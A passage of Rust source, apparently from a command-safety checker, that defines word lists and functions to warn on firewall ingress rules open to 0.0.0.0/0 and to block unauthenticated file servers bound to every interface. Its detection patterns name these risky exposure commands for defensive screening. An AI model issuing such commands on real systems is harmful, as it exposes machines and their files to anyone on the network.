                .is_some_and(|user| !user.is_empty() && !user.contains('/'))
        }),
    }
}

/// Programs that take the whole-internet range as a destination to route or tunnel to, not as
/// who may connect (`ip route add 0.0.0.0/0 via ..`, `sshuttle -r host 0.0.0.0/0`, a VPN's
/// allowed IPs), and programs that only print, search or record their words.
const ROUTES_ALL_TRAFFIC: &[&str] = &[
    "ip",
    "route",
    "sshuttle",
    "wg",
    "wg-quick",
    "tailscale",
    "headscale",
    "openvpn",
    "nmcli",
    "echo",
    "printf",
    "grep",
    "rg",
    "ipcalc",
    "sipcalc",
    "git",
    "gh",
];

/// Words (split at `-`, `_`, `:`) of a command that lets hosts in: a security group's or
/// firewall's ingress rule (`authorize-security-group-ingress`, `firewall-rules create`, `nsg
/// rule create`, `--flow ingress`, `--inbound-rules`, `ufw allow`, `-j ACCEPT`).
const GRANTS: &[&str] = &[
    "ingress",
    "inbound",
    "authorize",
    "firewall",
    "firewalls",
    "security",
    "securitygroup",
    "nsg",
    "allow",
    "accept",
];

/// Words of a command that takes access away, or only reads: `revoke-security-group-ingress`,
/// `ufw deny`, `-j DROP`, `describe-security-groups --filters ..`.
const TAKES_OR_READS: &[&str] = &[
    "revoke", "deny", "drop", "reject", "delete", "remove", "describe", "list", "get", "show", "filter", "filters",
];

/// Whether `run` (a run of address characters) is a range of prefix length 0, which holds
/// every address: `0.0.0.0/0`, `::/0`, `0/0`, `::0/0`, `10.0.0.0/0`, `0.0.0.0/00`.
fn whole_range(run: &str) -> bool {
    let Some((addr, len)) = run.rsplit_once('/') else {
        return false;
    };
    if len.is_empty() || !len.bytes().all(|c| c == b'0') {
        return false;
    }
    let v4 = |a: &str| {
        let parts: Vec<&str> = a.split('.').collect();
        parts.len() == 4
            && parts
                .iter()
                .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
    };
    // The address may follow a key glued to it by `:` (`address:0.0.0.0/0`).
    let ends = std::iter::once(addr).chain(addr.match_indices(':').map(|(i, _)| &addr[i + 1..]));
    addr == "0"
        || ends
            .into_iter()
            .any(|a| v4(a) || a.parse::<std::net::Ipv6Addr>().is_ok())
}

/// `aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0`, `gcloud compute
/// firewall-rules create --source-ranges 0.0.0.0/0`, `exo .. security-group rule add --flow
/// ingress --network 0.0.0.0/0`: an ingress rule for the whole internet's range (prefix length
/// 0) lets every host in. Warned, whichever program it is, when the command's words say it
/// grants access ([`GRANTS`]) and none says it takes access away or only reads
/// ([`TAKES_OR_READS`]); never for programs that route or tunnel all traffic there.
fn open_to_internet(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    if ROUTES_ALL_TRAFFIC.contains(&cmd.name()) {
        return;
    }
    let args = || cmd.argv.iter().skip(1);
    // Every such range ends in `/0` (or `/00`): most words are passed over at one search.
    let whole_internet = |a: &String| {
        a.contains("/0")
            && a.split(|c: char| !(c.is_ascii_hexdigit() || matches!(c, '.' | ':' | '/')))
                .any(whole_range)
    };
    if !args().any(whole_internet) {
        return;
    }
    // The command's own words, not text it is handed (`-m 'replace 0.0.0.0/0 ..'`).
    let words = || {
        args()
            .filter(|a| !a.contains(char::is_whitespace))
            .flat_map(|a| a.split(['-', '_', ':', '=', ',']))
            .map(str::to_ascii_lowercase)
    };
    if words().any(|w| GRANTS.contains(&w.as_str())) && !words().any(|w| TAKES_OR_READS.contains(&w.as_str())) {
        out.push(warn(
            Category::Network,
            OPEN_TO_INTERNET,
            cmd,
            "an ingress rule open to every address on the internet (0.0.0.0/0)",
        ));
    }
}

/// A server bound to every interface on purpose (`--bind 0.0.0.0`, `-S 0.0.0.0:80`): a file
/// server hands the directory's files to every host that reaches the machine, with no
/// authentication at all (blocked); any other server is warned.
fn exposed(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let argv = &cmd.argv;
    let name = cmd.name();
    let file_server = (name.starts_with("python")
        && argv
            .windows(2)
            .any(|w| w[0] == "-m" && (w[1] == "http.server" || w[1] == "SimpleHTTPServer")))
        || (name == "php" && argv.iter().any(|a| a == "-S" || a.starts_with("-S")))
        || (name == "busybox" && argv.get(1).is_some_and(|a| a == "httpd"))
        || matches!(
            name,
            "httpd" | "darkhttpd" | "http-server" | "webfsd" | "miniserve" | "serve" | "updog" | "simplehttpserver"
        ) && !argv.iter().any(|a| a.starts_with("--auth"));
    if file_server {
        out.push(block(
            Category::Network,
            EXPOSED_BIND,
            Risk::High,
            cmd,
            "serves the directory's files to every host on the network, with no authentication",
        ));
    } else {
        out.push(warn(
            Category::Network,
            EXPOSED_BIND,
            cmd,
            "binds a server to every network interface",
        ));
    }
}
